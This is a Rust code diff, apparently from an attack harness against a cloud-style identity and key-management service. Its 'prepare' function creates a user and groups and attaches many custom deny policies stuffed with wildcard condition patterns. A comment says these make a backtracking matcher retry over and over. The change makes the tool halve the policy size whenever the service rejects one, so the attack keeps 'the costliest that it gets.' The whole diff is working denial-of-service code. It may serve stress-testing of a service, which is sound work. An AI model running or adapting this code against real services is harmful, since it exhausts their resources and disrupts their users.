@@ -31,7 +31,7 @@ pub async fn prepare(target: &Target, caller: &Caller, out: &Path) -> Result<Str
     root.good("CreatePolicy", &[("PolicyName", "allow"), ("PolicyDocument", &allow.to_string())]).await?;
     root.good("AttachPolicyToUser", &[("PolicyType", "Custom"), ("PolicyName", "allow"), ("UserName", USER)]).await?;
 
-    let mut attached = 0;
+    let (mut attached, mut bytes_max) = (0, DOCUMENT_BYTES_MAX);
     for group in 0..=GROUPS {
         let group_name = format!("g{group}");
         // The last of them go to the user itself.
@@ -41,17 +41,22 @@ pub async fn prepare(target: &Target, caller: &Caller, out: &Path) -> Result<Str
             root.good("AddUserToGroup", &[("GroupName", &group_name), ("UserName", USER)]).await?;
         }
         for number in 0..POLICIES {
-            let name = format!("p{group}-{number}");
-            let document = costly(group * POLICIES + number);
-            let policy = [("PolicyType", "Custom"), ("PolicyName", &*name)];
             let (action, to) = if own {
                 ("AttachPolicyToUser", ("UserName", USER))
             } else {
                 ("AttachPolicyToGroup", ("GroupName", &*group_name))
             };
-            // A service that does not take so costly policies is right: the attack has what it gets.
-            let made = root.call("CreatePolicy", &[policy[1], ("PolicyDocument", &document)]).await?.0 == 200;
-            attached += usize::from(made && root.call(action, &[policy[0], policy[1], to]).await?.0 == 200);
+            // A service that does not take so costly policies is right: the attack has the costliest that it gets.
+            while let Some(document) = costly(group * POLICIES + number, bytes_max) {
+                let name = format!("p{group}-{number}-{bytes_max}");
+                let policy = [("PolicyType", "Custom"), ("PolicyName", &*name)];
+                let made = root.call("CreatePolicy", &[policy[1], ("PolicyDocument", &document)]).await?.0 == 200;
+                if made && root.call(action, &[policy[0], policy[1], to]).await?.0 == 200 {
+                    attached += 1;
+                    break;
+                }
+                bytes_max /= 2;
+            }
         }
     }
     let mut file = fs::OpenOptions::new().write(true).create_new(true).mode(0o600).open(out)?;
@@ -68,8 +73,9 @@ pub fn read(path: &Path) -> Result<(Caller, String), Failure> {
     }
 }
 
-/// A policy as long as it may be, of patterns that a matcher which goes back tries over and over.
-fn costly(number: usize) -> String {
+/// A policy of at most so many bytes, of patterns that a matcher which goes back tries over and over. None if there is
+/// no room for one statement.
+fn costly(number: usize, bytes_max: usize) -> Option<String> {
     let document = |statements: &[Value]| json!({ "Version": "1", "Statement": statements }).to_string();
     let mut statements = Vec::new();
     loop {
@@ -79,9 +85,9 @@ fn costly(number: usize) -> String {
             "Effect": "Deny", "Action": "kms:Encrypt", "Resource": "*",
             "Condition": { "StringLike": { "kms:EncryptionContext/k": vec![pattern; PATTERNS] } },
         }));
-        if document(&statements).len() > DOCUMENT_BYTES_MAX {
+        if document(&statements).len() > bytes_max {
             statements.pop();
-            return document(&statements);
+            return (!statements.is_empty()).then(|| document(&statements));
         }
     }
 }
